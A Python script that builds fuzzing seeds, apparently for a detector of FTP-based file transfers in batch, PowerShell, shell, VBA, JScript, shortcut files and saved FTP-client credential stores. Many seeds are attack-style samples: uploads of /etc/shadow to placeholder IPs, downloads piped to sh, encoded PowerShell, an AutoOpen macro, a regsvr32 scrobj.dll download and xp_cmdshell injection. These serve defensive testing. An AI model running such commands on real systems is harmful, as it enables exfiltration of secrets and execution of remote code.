#!/usr/bin/env python3
"""Makes the seeds of the fuzz targets from testdata. usage: make.py (from anywhere)"""
import pathlib
import struct

here = pathlib.Path(__file__).resolve().parent
host = here.parents[1] / "testdata" / "host"
SIGNED = ["appended", "cut", "garbled", "nested", "sha256", "tampered"]
SCRIPTS = ["Users/Public/a.txt", "ProgramData/update/cfg.dat", "Users/jsmith/Desktop/ps.log"]
BATCHES = ["Users/Public/run.bat", "Users/jsmith/AppData/Local/Temp/up.cmd"]
PROGRAMS = ["Windows/Temp/nc.exe", "ProgramData/update/invoice.pdf"]

LFTP = [
    b"\0set ftp:ssl-allow no\nopen -u bob,pw -p 2121 192.0.2.1\nlcd /d; cd in && put a.zip -o b.zip || exit\nmirror -R . up\nbye\n",
    b"\0alias g get\nopen ftp://bob:p%40w@h/sub\n(lcd x; g a -o 'b c'; cat d | sh) &\nqueue \"get e; get f\"\nmget -d *.txt\n",
    b"\1-u\0bob,pw\0192.0.2.1\0-e\0get -O /t a; quote DELE b; bye",
    b"\1-c\0open -s 1 -u a,b h; slot 2; eval -f \"get $0 $@\" x y; repeat -c 2 mrm *.bak",
]
WINSCP = [
    b"\0option batch abort\r\noption confirm off\r\nopen ftp://bob:pw@192.0.2.1/\r\nlcd C:\\out\r\nget -delete \"/a b/*.dat\" .\\\r\nexit\r\n",
    b"\0/ini=nul /command \"open ftp://b:p@h -explicit\" \"put \"\"C:\\a b\\x\"\" /in/\" \"synchronize remote C:\\s /s\" \"exit\"",
    b"\1bob@192.0.2.1 -P 2222 -pw s3cret -b f",
    b"\2-oPort=2222 -b f bob@h:/in\n-put \"a b\" c\nreget d\n!ls\nlcd /t\nmput *.log\nquit\n",
    b"\4-P 2222 a.txt bob@192.0.2.1:/in/",
]
POWERSHELLS = [
    "$s=@\"\nopen 192.0.2.40\nbob\npw\nput C:\\t\\d.zip\nquit\n\"@\n$s|Out-File -Encoding ASCII $env:TEMP\\c.txt; ftp.exe -i -s:$env:TEMP\\c.txt\n",
    "$h='192.0.2.41'\nforeach ($l in \"open $h\",'user bob pw','bye') { Add-Content -Path f.txt -Value $l }\n& ftp -n \"-s:f.txt\"\n",
    "powershell -nop -enc ZgB0AHAAIAAtAHMAOgBmAA==\niex (-join[char[]](102,116,112,32,45,115,58,102))\n&(\"{1}{0}\" -f 'tp','f') -s:f\n",
    "function Send($f) {\n  $r=[Net.FtpWebRequest]::Create(\"ftp://192.0.2.42/$f\")\n  $r.Method=[Net.WebRequestMethods+Ftp]::UploadFile\n"
    "  $r.Credentials=New-Object Net.NetworkCredential('bob','pw')\n  $c=[IO.File]::ReadAllBytes($f)\n"
    "  $s=$r.GetRequestStream(); $s.Write($c,0,$c.Length); $s.Close()\n}\nSend 'a.zip'\n",
    "$w=New-Object IO.StreamWriter('f'); for($i=0;$i -lt 3;$i++){ $w.WriteLine(\"get $i\") }; $w.Close()\n"
    "try { Start-Process ftp -ArgumentList '-s:f' -Wait } catch { exit } finally { rm f }\n"
    "(New-Object Net.WebClient).DownloadFile('ftp://u:p@192.0.2.43/x','C:\\x')\n",
]


def seed(target, name, content):
    folder = here / target
    folder.mkdir(exist_ok=True)
    (folder / name).write_bytes(content)


for number, path in enumerate(SCRIPTS + BATCHES):
    seed("decode", f"{number}", (host / path).read_bytes())
for number, path in enumerate(SCRIPTS):
    for flags in (0, 1, 2, 16):
        seed("ftp_script", f"{number}-{flags}", bytes([flags]) + (host / path).read_bytes())
for number, path in enumerate(BATCHES):
    seed("batch", f"{number}", (host / path).read_bytes())
COMMANDS = {
    "branches": "if exist q (echo open h.x>f) else (echo open g.x>f)\necho bye>>f\nftp -s:f\n",
    "calls": "call :l open h.x\ncall :l bye\nftp -s:f\nexit /b\n:l\nsetlocal\necho %*>>f\nexit /b\n",
    "loops": "for /f \"tokens=1,2 delims=:\" %%a in (\"h.x:21\") do echo open %%a %%b>f\nfor /l %%i in (1,1,3) do echo get %%i>>f\nftp -s:f\n",
    "delayed": "cmd /v:on /c \"set a=ftp&&set /a n=1+2&&echo get !n!>f&&!a! -s:f\"\n",
    "parts": "set k=ptfohce\n%k:~6,1%%k:~5,1%%k:~4,1%%k:~3,1% bye>f\n%k:~2,1%%k:~1,1%%k:~0,1% -s:f\n",
    "filters": "findstr /b \"::f\" \"%~f0\"|find /v \"x\">f\nmore +2 %0>>f\nftp -s:f\nexit\n::f open h.x\n",
    "itself": "@ftp -i -s:\"%~f0\"&goto:eof\nopen h.x\nbye\n",
    "within": "schtasks /create /tr \"cmd /c echo bye>a&ftp -s:a\"\nforfiles /c \"cmd /c ftp -s:0x22a b0x22\"\nwmic process call create \"ftp -s:a\"\n",
    "note": "C:\\> copy con f\nopen h.x\n^Z\nGET /x?cmd=echo%20bye%3E%3Ef HTTP/1.1\n[1] CMD: ftp -s:f\n",
    "numbers": ":a\nset /a i+=1\necho [%i%]>>f\nif %i% lss 3 goto a\nshift\npushd C:\\t\npopd\n",
}
for name, text in COMMANDS.items():
    seed("batch", name, text.encode())
for number, text in enumerate(POWERSHELLS):
    seed("powershell", f"{number}", text.encode())
for number, path in enumerate(PROGRAMS):
    seed("pe", f"{number}", (host / path).read_bytes())
for path in [host.parent / "signed" / f"{name}.exe" for name in SIGNED]:
    content = path.read_bytes()
    seed("pe", path.stem, content)
    # The directory entry of the certificate table of a PE32+ file whose header stands at 0x80; an entry has eight bytes more.
    offset, length = struct.unpack_from("<II", content, 0x80 + 24 + 144)
    seed("authenticode", path.stem, content[offset + 8:offset + length])
parts = [(host / path).read_bytes() for path in
         ["Users/Public/a.txt", "Users/Public/run.bat", "Windows/Temp/nc.exe", "ProgramData/update/cfg.dat",
          "Users/jsmith/AppData/Local/Temp/up.cmd"]]
seed("pipeline", "host", b"\0\n".join(parts))
for number, path in enumerate(SCRIPTS + BATCHES):
    seed("pipeline", f"{number}", (host / path).read_bytes())

# Programs that write and start what the emulations of BASIC and JScript follow; the first byte chooses the file's name.
BASIC = [
    b'Set t = CreateObject("Scripting.FileSystemObject").CreateTextFile("a", True)\nt.WriteLine "open h.x"\n'
    b't.Close\nCreateObject("WScript.Shell").Run "ftp -s:a", 0, True\n',
    b'Sub AutoOpen()\n  Dim n As Integer, i\n  n = FreeFile\n  Open Environ("TEMP") & "\\a" For Output As #n\n'
    b'  For i = 0 To 2\n    Print #n, "get "; i; ".exe"\n  Next\n  Close #n\n  If x Then Shell "ftp -s:a" Else Exit Sub\nEnd Sub\n',
    b'Function D(s)\nFor i = 1 To Len(s)\nD = Chr(Asc(Mid(s, i, 1))) & D\nNext\nEnd Function\nExecute D("1 = x")\n'
    b'Select Case D("a")\nCase "a": Shell "ftp -n"\nCase Else\nDo While y\nLoop\nEnd Select\n',
    b'c = InternetConnect(h, "h.x", 21, "bob", "pw", 1, 0, 0)\nFtpPutFile c, "C:\\a", "b", 2, 0\n',
]
JSCRIPT = [
    b'var t = new ActiveXObject("Scripting.FileSystemObject").CreateTextFile("a", true);\nt.WriteLine("open h.x");\n'
    b't.Close();\nnew ActiveXObject("WScript.Shell").Run("ftp -s:a", 0);\n',
    b'function d(s) { var r = ""; for (var i = 0; i < s.length; i += 2) r += String.fromCharCode(parseInt(s.substr(i, 2), 16));'
    b' return r; }\ntry { eval(d("78") + "=1"); } catch (e) { } switch (x) { case 1: break; default: y = [1, 2].reverse().join("") }\n',
    b'<html><script language="VBScript">\nSet s = CreateObject("WScript.Shell")\ns.Run "cmd /c echo bye>a"\n</script>\n'
    b'<script>new ActiveXObject("WScript.Shell").Run("ftp -s:a".replace(/x/g, ""));</script></html>\n',
]
for target, programs in (("basic", BASIC), ("jscript", JSCRIPT)):
    for number, program in enumerate(programs):
        for name in range(3):
            seed(target, f"{number}-{name}", bytes([name]) + program)
for target, texts in (("lftp", LFTP), ("winscp", WINSCP)):
    for number, content in enumerate(texts):
        seed(target, f"{number}", content)
# Shell scripts: the first byte chooses the name (see the target).
BODY = "user bob pw\nbinary\nput /etc/shadow sh\nbye\n"
SHELL = [
    (0, "#!/bin/sh\nHOST=192.0.2.50\nftp -n $HOST <<EOF\n" + BODY + "EOF\n"),
    (0, "#!/bin/bash\nup() {\n\tlocal f=${1##*/}\n\tcat <<-'END' > s\n\topen h.example\n\tEND\n\techo \"put $f\" >> s\n}\nfor f in a/b c; do up \"$f\"; done\nftp -n < s\n"),
    (0, "if [ \"$1\" = prod ]; then H=192.0.2.1; else H=192.0.2.2; fi\n(echo user a b; echo put $2) | ftp -n $H\n"),
    (0, "#ftp -n 192.0.2.3 <<EOF\n#user a b\n#EOF\n: <<'X'\nftp -n h <<Y\nbye\nY\nX\nexit\nftp -n h <<< bye\n"),
    (1, "#!/bin/ksh\nftp -n |&\nprint -p open 192.0.2.4\nprint -p user a b\nexec 4>&p\nprint -u4 bye\n"),
    (2, "#!/bin/csh\nset host = 192.0.2.5\nif ($#argv < 1) exit 1\nftp -n $host << EOF\n" + BODY + "EOF\n"),
    (3, "#!/usr/bin/expect -f\nset pw s3cret\nspawn ftp 192.0.2.6\nexpect \"Name\" { send \"bob\\r\" }\nexpect word:\nsend \"$pw\\r\"\ninteract\n"),
    (4, "How to:\n\n    ftp -n 192.0.2.7 <<EOF\n    user a b\n    EOF\n"),
    (5, "5 0 * * * root ftp -n 192.0.2.8%user a b%bye\n"),
]
for number, (choice, text) in enumerate(SHELL):
    seed("shell", f"{number}", bytes([choice]) + text.encode())

CALLS = [
    "curl -sS -u ann:pw -T {a,b}.zip ftp://192.0.2.1/in/ --next -o '#1' ftp://ann:p%40w@h.x:2121/[1-3].txt",
    "wget -r -nH --cut-dirs=1 -P out --ftp-user=ann --ftp-password=pw ftp://h.x/a/b/",
    "ncftpput -R -m -u ann -p pw h.x up /d/s\nncftpget -C -u ann -p pw h.x /r/1 /tmp/2",
    "busybox ftpget -v -u ann -p pw -P 21 192.0.2.4 out remote\nftpput 192.0.2.4 r l",
    "certutil -urlcache -split -f ftp://ann:pw@h.x/a b\nbitsadmin /transfer j ftp://h.x/a C:\\a",
    "rclone copy C:\\d \":ftp,host=h.x,user=ann:in\" --ftp-pass YWFhYWFhYWFhYWFhYWFhYXMaGgIlEQ",
    "explorer ftp://u:p@h.x/a\nregsvr32 /s /i:ftp://u:p@h.x/a scrobj.dll\ntnftp -u ftp://u:p@h.x/d/ f",
    "url = \"ftp://h.x/in/\"\nuser = ann:pw\nupload-file = a\nnext\nurl=ftp://h.y/b\n-O\n",
]
STORES = [
    "<FileZilla3><Servers><Server><Host>h.x</Host><Protocol>0</Protocol><User>ann</User>"
    "<Pass encoding=\"base64\">aHVudGVyMg==</Pass><RemoteDir>1 0 4 home</RemoteDir></Server></Servers></FileZilla3>",
    "[Sessions\\a%20b]\nHostName=h.x\nUserName=ann\nFSProtocol=5\nPassword=A35C58\n",
    "[HKEY_CURRENT_USER\\Software\\SimonTatham\\PuTTY\\Sessions\\a%20b]\n\"HostName\"=\"h.x\"\n\"PortNumber\"=dword:00000016\n",
    "[HKEY_CURRENT_USER\\Software\\FTPWare\\CoreFTP\\Sites\\0]\n\"Host\"=\"h.x\"\n\"Port\"=dword:00000015\n\"PW\"=\"00\"\n",
    "[connections]\n1=web\n[web]\nhost=h.x:2121/in\nusername=ann\npassword=0011223344556677\n",
    "[web]\nHOST=h.x\nUID=ann\nPWD=VAE14E12F61EF8FE8DEC0332931D366797167A6AA80A5AA71\n",
    "[web]\nIP=h.x\nuser=ann\npass=10696F\n",
    "[web]\ntype = ftp\nhost = h.x\nuser = ann\npass = YmJiYmJiYmJiYmJiYmJiYp3gcEWbAw\n",
    "NcFTP bookmark-file version: 8\nNumber of bookmarks: 1\nweb,h.x,ann,*encoded*cHcA,,/in,I,21\n",
    "host h.x\nuser ann\npass pw\n",
    "op=get\nhostname=h.x\nremote-file=R\nlocal-file=r\nlocal-dir=/tmp\n",
    "ftp_user = ann\nftp_password = pw\n",
    "<remoteinfo accesstype=\"ftp\" host=\"h.x\" user=\"ann\" pw=\"70627576\"/>",
    "{\"protocol\":\"ftp\",\"host\":\"h.x\",\"username\":\"ann\",\"password\":\"pw\",\"remotePath\":\"/\",}",
    "<FavoriteItem><Name>web</Name><Host>h.x</Host><Port>21</Port><Protocol>1</Protocol><User>ann</User>"
    "<Password>9722972FC57CAE5A</Password></FavoriteItem>",
]


def numbers(*values):
    return struct.pack(f"<{len(values)}I", *values)


def short_text(text):
    return bytes([len(text)]) + text


def cute_ftp_site(form):
    """A site of CuteFTP's Site Manager of one of its forms, and what stands before it in the item."""
    hidden = bytes(byte ^ 0xC8 for byte in b"pw")
    item = numbers(7, 1, 0, 0) + short_text(b"web") + numbers(0, 0, 0) + bytes(4) + numbers(form)
    if form < 0x65:
        body = b"".join(map(short_text, (b"h.x", b"ann", hidden, b"/in", b""))) + numbers(21) + bytes(60) + b"\0"
        return item + body + bytes(24) + numbers(0) + bytes(16) + b"\0" + bytes(16) + bytes(4) + bytes(12) + (bytes(4) if form == 4 else b"")
    before = {0x66: b"", 0x69: b"\0" + bytes(8), 0x70: bytes(12 + 8 + 1 + 4) + b"\0" + bytes(8)}[form]
    login = short_text(b"h.x") + numbers(1) + short_text(b"ann" if form < 0x6D else bytes(8)) + short_text(hidden) + b"\0"
    site = before + login + numbers(0, 21, 0, 0, 0) + short_text(b"/in") + b"\0"
    switches = bytes(32) + b"\0" + bytes(16) if form == 0x66 else bytes(20) + b"\0"
    proxies = bytes(2 + 1 + 4 + 1 + 1 + 12 + 1 + 2) + bytes(2 + 1 + 4 + 1 + 1 + 8)
    return item + site + switches + bytes(4) + bytes(16 if form == 0x66 else 12) + proxies + bytes(12)


def cute_ftp_store(*sites):
    store = bytes.fromhex("3001000001") + numbers(9, len(sites), 0) + b"\xff\xff\1\0\7\0CSMSite"
    return store + b"\1\x80".join(sites)


for number, forms in enumerate([(4,), (0x66,), (0x69,), (0x70,), (4, 0x66, 0x69, 0x70)]):
    seed("stores", f"cute-ftp-{number}", cute_ftp_store(*map(cute_ftp_site, forms)))
history = (numbers(1, 0) + cute_ftp_store(cute_ftp_site(0x66))[17:]).hex(",")
seed("stores", "cute-ftp-history", ("[HKEY_CURRENT_USER\\Software\\GlobalSCAPE\\CuteFTP 6 Home\\QCToolbar]\n"
    f"\"QCHistory\"=hex:{history}\n").encode())
for target, texts in (("url_clients", CALLS), ("stores", STORES)):
    for number, text in enumerate(texts):
        seed(target, f"{number}", text.encode())
UNIX = [
    "machine 192.0.2.54 login bob password pw\nmacdef init\nbinary\nput /etc/passwd p\nquit\n\ndefault login anonymous password x\n",
    "open 192.0.2.1\nuser bob pw\nmacdef m\nget $i\nput $1 \"$2\"\n\n$m a b\ncase\nmget *\ny\nget run.sh |sh\nquit\n",
    "192.0.2.10 2121 (EXIT\nbob pw\nlocsite recfm=fb\nput 'A.B.C(MEM)' +\n  c\nget d 'E.F' (REPLACE\nquit\n",
    "//X JOB\n//F EXEC PGM=FTP,PARM='h.example (EXIT'\n//INPUT DD *\nbob\npw\nput 'A.B' c ; why\nquit\n/*\n//G EXEC PGM=FTP\n//SYSIN DD DATA,DLM=@@\nh2.example\nq\n@@\n",
]
for number, text in enumerate(UNIX):
    for flags in (0, 1):
        seed("unix_ftp", f"{number}-{flags}", bytes([flags]) + text.encode())
SOURCES = [
    (12, "exec master..xp_cmdshell 'echo open 192.0.2.1>f';exec master..xp_cmdshell 'ftp -s:f'"),
    (0, '#include <stdio.h>\n#define H "192.0.2.1"\nint main(){FILE *f=fopen("f","w");fprintf(f,"open %s\\n",H);system("ftp -s:f");}'),
    (1, 'class A { void m() { PrintWriter w = new PrintWriter("f"); w.println("open h"); Runtime.getRuntime().exec("ftp -s:f"); } }'),
    (2, 'using System;\nFile.WriteAllText(@"f", $"open {h}"); Process.Start("ftp.exe", "-s:f");'),
    (6, "import os\nwith open('f','w') as f:\n    f.write('open %s\\n' % 'h')\nos.system('ftp -s:f')\n"),
    (7, 'open(F, ">f");\nprint F <<EOT;\nopen h\nEOT\nsystem "ftp -s:f";\n'),
    (8, "<?php file_put_contents('f', \"open $h\"); exec('ftp -s:f'); ?>"),
    (10, "begin AssignFile(F,'f'); Writeln(F,'open h'#13#10); WinExec('ftp -s:f', 0); end."),
    (11, 'FileWriteLine("f", "open " & $h)\nRunWait(@ComSpec & " /c ftp -s:f")\n'),
    (13, '{"a": "cmd.exe /c echo open h\\u003ef"}\n{"a": "ftp -s:f"}'),
    (14, "<Task><Actions><Exec><Command>ftp</Command><Arguments>-s:&quot;f&quot;</Arguments></Exec></Actions></Task>"),
    (15, 'REGEDIT4\n[K]\n"a"="ftp -s:f"\n"b"=hex(2):66,74,70,\\\n  20,2d\n'),
    (16, "[InternetShortcut]\nURL=ftp://u:p@192.0.2.1/x\n"),
    (17, "GET /a?id=1;exec+xp_cmdshell+'echo+open+h>f'-- 200\n"),
]
for number, (choice, content) in enumerate(SOURCES):
    seed("literals", f"{number}", bytes([choice]) + content.encode())
PROGRAMS_OF_LIBRARIES = [
    (0, "import ftplib\nf = ftplib.FTP('192.0.2.1', 'u', 'p')\nf.storbinary('STOR a', open('b', 'rb'))\nf.quit()\n"),
    (1, "use Net::FTP;\nmy $f = Net::FTP->new('192.0.2.1', Port => 2121);\n$f->login('u', 'p');\n$f->put('a');\n"),
    (2, "<?php $c = ftp_connect('192.0.2.1'); ftp_login($c, 'u', 'p'); ftp_put($c, 'r', 'l', FTP_ASCII); ?>"),
    (3, "require 'net/ftp'\nNet::FTP.open('192.0.2.1') do |f|\n  f.login 'u', 'p'\n  f.get 'a'\nend\n"),
    (4, 'FTPClient c = new FTPClient(); c.connect("192.0.2.1"); c.login("u", "p"); c.storeFile("r", new FileInputStream("l"));'),
    (5, 'var w = new WebClient(); w.Credentials = new NetworkCredential("u", "p"); w.UploadFile("ftp://192.0.2.1/r", "l");'),
    (6, 'c = InternetConnect(h, "192.0.2.1", 21, "u", "p", INTERNET_SERVICE_FTP, 0, 0); FtpPutFile(c, "l", "r", 2, 0);'),
]
for number, (choice, content) in enumerate(PROGRAMS_OF_LIBRARIES):
    seed("library", f"{number}", bytes([choice]) + content.encode())


def counted(text):
    return struct.pack("<H", len(text)) + text.encode("utf-16-le")


head = bytes.fromhex("4c0000000114020000000000c000000000000046")
environment = struct.pack("<II", 0x314, 0xA0000001) + b"%COMSPEC%".ljust(260, b"\0") + "%COMSPEC%".encode("utf-16-le").ljust(520, b"\0")
for number, (flags, body) in enumerate([
    (0x80 | 0x8 | 0x10 | 0x20, counted("..\\ftp.exe") + counted("C:\\w") + counted("-s:x.txt")),
    (0x80 | 0x20 | 0x200, counted(" " * 300 + "/c ftp -s:x") + environment),
    (0x80 | 0x2 | 0x20, struct.pack("<7I", 38, 28, 1, 0, 28, 0, 37) + b"C:\\f.exe\0\0" + counted("-s:x")),
]):
    seed("shortcut", f"{number}", (head + struct.pack("<I", flags)).ljust(76, b"\0") + body + bytes(4))
